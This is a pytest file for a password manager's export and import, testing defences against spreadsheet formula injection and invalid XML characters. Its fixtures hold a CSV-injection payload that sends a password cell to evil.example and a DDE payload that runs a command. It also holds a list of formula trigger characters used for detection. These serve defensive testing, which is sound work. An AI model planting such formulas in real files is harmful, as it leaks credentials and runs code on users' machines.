"""What an export holds can do no harm where it is opened, and is read back whole.

- CSV: a value a spreadsheet would run as a formula (``=HYPERLINK(...)`` reading another row's
  password, ``=cmd|...``) is written with a ``'`` in front, as OWASP advises, so that a
  spreadsheet shows it as text; Strongroom's own import takes exactly that ``'`` away again.
  Another manager's CSV keeps a leading ``'`` as part of its value.
- KeePass XML: a character XML 1.0 cannot hold (U+FFFF, most C0 controls) is refused where it
  is typed or imported, naming the field; one already stored stops the export with a line that
  names the item, and nothing is written. Without it, KeePassXC and Strongroom read the file.
"""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest

from app.core.config import Settings
from app.core.items import ItemDraft
from tests.command_line import one_clean_line, strongroom
from tests.helpers import STRONG_PASSWORD
from tests.pilot import seed
from tests.transfer import (
    KDBX_PASSWORD,
    everything,
    export,
    import_file,
    keepassxc,
    second_account,
)

LEAK = '=HYPERLINK("https://evil.example/?p="&D3,"x")'
CALC = "=cmd|'/C calc'!A0"
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")

HOSTILE = (
    ItemDraft(LEAK, CALC, "=1+1", ("https://example.com",), "@SUM(A1)\n=line two", ("Work",)),
    ItemDraft("+plus", "-dash", "'quoted", (), "\tTabbed notes"),
    ItemDraft("Plain", "@handle", "-----BEGIN", ("https://plain.example",), "'''three"),
)


def test_a_csv_opened_in_a_spreadsheet_runs_no_formula_and_reimports_whole(
    settings: Settings, tmp_path: Path
) -> None:
    seed(settings, *HOSTILE)
    out = tmp_path / "vault.csv"
    done = export(settings, "--format", "keepassxc-csv", "-o", str(out))
    assert done.returncode == 0, done.stderr
    rows = list(csv.reader(io.StringIO(out.read_text(), newline="")))
    cells = [cell for row in rows[1:] for cell in row]
    # What a spreadsheet would run (the first character of a cell) is never there...
    assert not [cell for cell in cells if cell.startswith(FORMULA_START)]
    # ...because each such value is the value with one ' in front.
    by_title = {row[1]: row for row in rows[1:]}
    leak = by_title["'" + LEAK]
    assert leak[2:6] == ["'" + CALC, "'=1+1", "https://example.com", "'@SUM(A1)\n=line two"]
    assert by_title["'+plus"][2:6] == ["'-dash", "''quoted", "", "'\tTabbed notes"]
    assert by_title["Plain"][2:6] == ["'@handle", "'-----BEGIN", "https://plain.example",
                                      "''''three"]  # fmt: skip
    assert rows[0][10].startswith("Strongroom")  # what tells Strongroom's import
    # Strongroom reads back every value exactly as it was typed.
    other = second_account(settings, tmp_path)
    imported = import_file(other, str(out))
    assert imported.returncode == 0, imported.stderr
    assert "3 items" in imported.stderr
    assert everything(other, "bob") == everything(settings, "alice")


def test_export_help_says_a_csv_is_a_risk_in_a_spreadsheet(sqlite_settings: Settings) -> None:
    shown = strongroom(sqlite_settings, "export", "--help")
    assert shown.returncode == 0
    text = " ".join(shown.stdout.split())
    assert "A CSV opened in a spreadsheet can run a value as a formula" in text
    assert "KeePass XML is the safe choice" in text


def test_another_managers_csv_keeps_a_leading_quote(
    sqlite_settings: Settings, tmp_path: Path
) -> None:
    """Only Strongroom's own CSV had a quote put in: KeePassXC's values are kept as they are."""
    seed(sqlite_settings)
    path = tmp_path / "keepassxc.csv"
    path.write_text(
        '"Group","Title","Username","Password","URL","Notes","TOTP","Icon","Last Modified",'
        '"Created"\n"Root","\'=quoted title","u","\'=pw","","","","0","",""\n'
    )
    assert import_file(sqlite_settings, str(path)).returncode == 0
    found = everything(sqlite_settings, "alice")
    assert found["'=quoted title"][1] == "'=pw"


def test_a_character_xml_cannot_hold_is_refused_where_it_is_typed_or_imported(
    sqlite_settings: Settings, tmp_path: Path
) -> None:
    settings = sqlite_settings
    seed(settings)
    added = strongroom(settings, "add", "Bad\uffffname", stdin="pw\n")
    assert added.returncode == 2
    one_clean_line(added.stderr)
    assert "Title contains U+FFFF" in added.stderr
    assert strongroom(settings, "add", "Good", stdin="pw\n").returncode == 0
    edited = strongroom(settings, "edit", "Good", "--username", "a\ufffeb")
    assert edited.returncode == 2
    assert "Username contains U+FFFE" in edited.stderr
    bitwarden = tmp_path / "bitwarden.json"
    bitwarden.write_text(
        json.dumps(
            {
                "encrypted": False,
                "items": [
                    {"type": 1, "name": "Fine", "login": {"password": "x"}},
                    {"type": 1, "name": "Odd", "notes": "a\uffffb", "login": {"password": "y"}},
                ],
            }
        )
    )
    imported = import_file(settings, str(bitwarden))
    assert imported.returncode == 0, imported.stderr
    assert "Notes contains U+FFFF" in imported.stderr  # the item skipped says why
    assert set(everything(settings, "alice")) == {"Good", "Fine"}


def test_a_stored_character_xml_cannot_hold_stops_the_export_by_name(
    sqlite_settings: Settings, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """An item saved before U+FFFF was refused: the KeePass XML export names it and writes
    nothing; once it is fixed, KeePassXC and Strongroom both read the file."""
    settings = sqlite_settings
    monkeypatch.setattr("app.services.vault.validate", lambda draft: draft)  # an older version
    seed(
        settings,
        ItemDraft("Team\uffffwiki", "alice", "wiki-pw"),
        ItemDraft("Mail", "alice", "mail-pw", notes="ok"),
    )
    monkeypatch.undo()
    out = tmp_path / "vault.xml"
    refused = export(settings, "--format", "keepass-xml", "-o", str(out))
    assert refused.returncode == 2, refused.stderr
    one_clean_line(refused.stderr)
    assert "'Team\ufffdwiki' (title: U+FFFF)" in refused.stderr
    assert "Bitwarden JSON" in refused.stderr
    assert not out.exists()
    assert "Team\uffffwiki" in everything(settings, "alice")  # the vault keeps it as it was
    # The fix is an edit; then the export is read by KeePassXC and by Strongroom.
    fixed = strongroom(settings, "edit", "Team", "--title", "Team wiki")
    assert fixed.returncode == 0, fixed.stderr
    done = export(settings, "--format", "keepass-xml", "-o", str(out))
    assert done.returncode == 0, done.stderr
    kdbx = tmp_path / "vault.kdbx"
    keepassxc("import", "-q", "-p", str(out), str(kdbx), stdin=f"{KDBX_PASSWORD}\n" * 2)
    shown = keepassxc("show", "-q", "-s", "-a", "Password", str(kdbx), "Team wiki",
                      stdin=f"{KDBX_PASSWORD}\n")  # fmt: skip
    assert shown.stdout.strip() == "wiki-pw"
    other = second_account(settings, tmp_path)
    assert import_file(other, str(out)).returncode == 0
    assert everything(other, "bob")["Team wiki"][1] == "wiki-pw"
    assert STRONG_PASSWORD not in done.stderr
